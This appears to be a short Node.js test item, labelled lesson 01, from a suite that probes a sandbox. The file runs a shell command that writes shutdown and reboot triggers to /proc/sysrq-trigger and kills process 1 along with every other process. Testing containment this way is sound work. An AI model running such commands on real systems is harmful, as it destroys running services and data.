// lesson: 01
// on: starter
// points: 0
// what it tries: ends every process that it may, process 1 of its world among them, and says that it wants to be restarted.
import { execFileSync } from 'node:child_process';

try {
  execFileSync(
    '/bin/sh',
    ['-c', 'for k in e i s u o b; do echo $k >/proc/sysrq-trigger; done; kill -TERM 1; kill -KILL 1; kill -KILL -1'],
    { stdio: 'ignore' },
  );
} catch {
  // Of course.
}
